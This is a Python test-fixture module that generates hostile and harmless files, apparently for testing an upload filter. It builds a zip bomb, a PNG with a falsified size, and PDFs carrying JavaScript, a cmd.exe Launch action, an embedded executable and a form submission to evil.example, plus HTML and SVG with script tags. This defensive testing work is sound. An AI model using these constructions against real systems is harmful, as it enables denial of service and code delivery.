"""Files nobody should accept, made here byte by byte; and honest ones."""

import io
import struct
import zipfile
import zlib

import pikepdf
import pillow_heif
from PIL import Image


def photo(size=(1200, 900), mode="RGB", kind="JPEG", **options):
    picture = Image.effect_noise(size, 40).convert(mode)
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def photo_with_place():
    """As a phone sends it: turned on its side, with the place it was taken."""
    picture = Image.new("RGB", (1200, 800), "white")
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x8825] = {1: "N", 2: (11.0, 15.0, 0.0)}
    exif[0x010F] = "Điện thoại"
    out = io.BytesIO()
    picture.save(out, "JPEG", exif=exif)
    return out.getvalue()


def heic():
    out = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", (640, 480), "white")).save(out)
    return out.getvalue()


def png_claiming(width, height):
    """A small file that says it is enormous."""

    def chunk(kind, body):
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\x00" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def zip_bomb():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("giay-to.txt", b"0" * 30_000_000)
    return out.getvalue()


def pdf(pages=1, change=None, **save):
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page()
    if change is not None:
        change(made)
    out = io.BytesIO()
    made.save(out, **save)
    return out.getvalue()


def _script(made):
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _launch(made):
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def _attachment(made):
    made.attachments["don.exe"] = b"MZ"


def _deep_script(made):
    """Hidden in a named tree, in an object stream, with the name written in another way."""
    action = made.make_indirect(pikepdf.Dictionary({"/S": pikepdf.Name("/JavaScript"), "/JS": "x"}))
    names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", action]))
    made.Root.Names = made.make_indirect(names)


def _submit(made):
    made.pages[0].AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil.example/")
    )


def _huge_image(made):
    image = made.make_stream(b"\x00")
    image.Subtype, image.Type = pikepdf.Name.Image, pikepdf.Name.XObject
    image.Width, image.Height = 30000, 30000
    made.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(I=image))


def script_pdf():
    return pdf(change=_script)


def compressed_script_pdf():
    return pdf(change=_deep_script, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def launch_pdf():
    return pdf(change=_launch)


def attachment_pdf():
    return pdf(change=_attachment)


def submit_pdf():
    return pdf(change=_submit)


def huge_image_pdf():
    return pdf(change=_huge_image)


def locked_pdf():
    return pdf(encryption=pikepdf.Encryption(owner="a", user="b"))


def owner_locked_pdf():
    return pdf(encryption=pikepdf.Encryption(owner="a", user=""))


def html_before_pdf():
    return b"<html><script>alert(1)</script></html>\n" + pdf()


def svg():
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def exe():
    return b"MZ\x90\x00" + b"\x00" * 200
